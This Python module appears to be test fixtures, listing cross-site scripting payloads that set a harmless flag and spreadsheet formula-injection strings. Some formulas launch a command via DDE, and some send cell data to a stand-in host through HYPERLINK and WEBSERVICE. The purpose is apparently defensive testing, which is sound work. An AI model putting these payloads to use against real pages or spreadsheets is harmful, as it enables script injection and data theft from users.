"""What hostile people type: markup and scripts for pages, formulas for spreadsheets.

Each piece of markup that runs sets ``window.hurt``, so that a page can be asked whether it did.
"""

from __future__ import annotations

__all__ = ["FORMULAS", "MARKUP"]

MARKUP = (
    '<img src=x onerror="window.hurt=1">',
    "<script>window.hurt=1</script>",
    '"><script>window.hurt=1</script>',
    "'><img src=x onerror=window.hurt=1>",
    "</script><script>window.hurt=1</script>",
    "</title></style></textarea><script>window.hurt=1</script>",
    "<svg/onload=window.hurt=1>",
    "<svg><script href='data:text/javascript,window.hurt=1'></script></svg>",
    "<details open ontoggle=window.hurt=1>x</details>",
    "<input autofocus onfocus=window.hurt=1>",
    '" autofocus onfocus="window.hurt=1',
    "' onmouseover='window.hurt=1",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hurt=1</script>'></object>",
    "<a href='javascript:window.hurt=1'>tautan</a>",
    "<form action='javascript:window.hurt=1'><button>kirim</button></form>",
    "<base href='//hurt.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:window.hurt=1'>",
    "<link rel='stylesheet' href='//hurt.example/x.css'>",
    "<style>@import '//hurt.example/x.css'; * { display: none }</style>",
    "<!--<img src='--><img src=x onerror=window.hurt=1//'>",
    "<math><mtext><style><img title='</style><img src=x onerror=window.hurt=1>'>",
    "<marquee onstart=window.hurt=1>x</marquee>",
    "<video><source onerror=window.hurt=1></video>",
    "<body onload=window.hurt=1>",
    "<ScRiPt/x>window.hurt=1</sCrIpT>",
    "&lt;script&gt;window.hurt=1&lt;/script&gt;",
    "\\u003cimg src=x onerror=window.hurt=1\\u003e",
    "javascript:window.hurt=1",
    "${window.hurt=1}",
    "{{constructor.constructor('window.hurt=1')()}}",
    "#{window.hurt=1} <%= window.hurt=1 %>",
    "]]><script>window.hurt=1</script>",
    "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
    "\u2028window.hurt=1\u2029",
    "\u202e<script>window.hurt=1</script>",
)
"""Texts that a page must show as they are."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://hurt.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://hurt.example/"&A1)',
    '=IMPORTXML("http://hurt.example/","//a")',
    "@=1+1",
    "=-1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(A1)",
    "\t-1+1",
    "\r\n+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
)
"""Texts that a spreadsheet would read as a formula: as they are, or once blanks are cut off."""
